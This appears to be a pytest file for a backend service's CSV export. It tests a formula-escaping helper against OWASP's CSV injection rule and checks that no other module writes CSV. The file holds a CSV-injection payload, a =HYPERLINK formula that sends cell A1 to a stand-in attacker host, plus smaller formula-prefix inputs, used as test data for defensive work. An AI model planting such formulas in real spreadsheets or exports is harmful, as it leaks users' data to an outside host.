"""CSV the service writes is formula-safe (OWASP's CSV injection rule), and
backend/csvsafe.py is the only module that writes CSV."""

from __future__ import annotations

import ast
import csv
import io
from pathlib import Path

import pytest
from fastapi.testclient import TestClient

from backend.csvsafe import formula_safe, write_csv
from tests import factories
from tests.supervision import outcomes as o

ROOT = Path(__file__).resolve().parents[2]
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


@pytest.mark.parametrize("cell", [FORMULA, "+1+2", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1",
                                  "-5"])
def test_cells_that_start_like_a_formula_are_text(cell: str) -> None:
    assert formula_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["巴中市市场监督管理局", "a=b", " =x", "", "1-2"])
def test_other_text_is_unchanged(cell: str) -> None:
    assert formula_safe(cell) == cell


def test_numbers_stay_numbers_and_every_cell_is_quoted() -> None:
    text = write_csv(["name", "amount_fen", "performed", "note"],
                     [["好又多超市", -200, True, None], [FORMULA, 0, False, 'say "hi"']])
    assert text.splitlines()[0] == '"name","amount_fen","performed","note"'
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[1] == ["好又多超市", "-200", "true", ""]
    assert rows[2] == ["'" + FORMULA, "0", "false", 'say "hi"']


def test_a_formula_imported_by_csv_is_kept_and_exported_as_text(
    client: TestClient, regulator: dict[str, str]
) -> None:
    # Issue 15 (L7): the red team imported =HYPERLINK(...) and it was published as given.
    uscc = factories.register(client)["uscc"]
    body = o.spot_check(uscc=uscc, authority=FORMULA)
    upload = write_csv(list(body), [list(body.values())]).replace("'=", "=")
    resp = client.post("/api/supervision/records/bulk", content=upload.encode(),
                       headers={**regulator, "Content-Type": "text/csv"})
    assert resp.status_code == 201, resp.text
    record_id = resp.json()["records"][0]["record_id"]
    stored = client.get(f"/api/supervision/records/{record_id}", headers=regulator).json()
    assert stored["body"]["authority"] == FORMULA  # the record keeps what was imported
    exported = write_csv(["authority"], [[stored["body"]["authority"]]])
    assert list(csv.reader(io.StringIO(exported)))[1] == ["'" + FORMULA]


def test_no_other_module_writes_csv() -> None:
    """Any CSV export must go through backend/csvsafe.py."""
    offenders = []
    for path in sorted((ROOT / "backend").rglob("*.py")):
        if path.name == "csvsafe.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter") and (
                isinstance(node.value, ast.Name) and node.value.id == "csv"
            ):
                offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}")
            if isinstance(node, ast.ImportFrom) and node.module == "csv" and any(
                a.name in ("writer", "DictWriter") for a in node.names
            ):
                offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}")
    assert offenders == [], "write CSV with backend.csvsafe.write_csv"
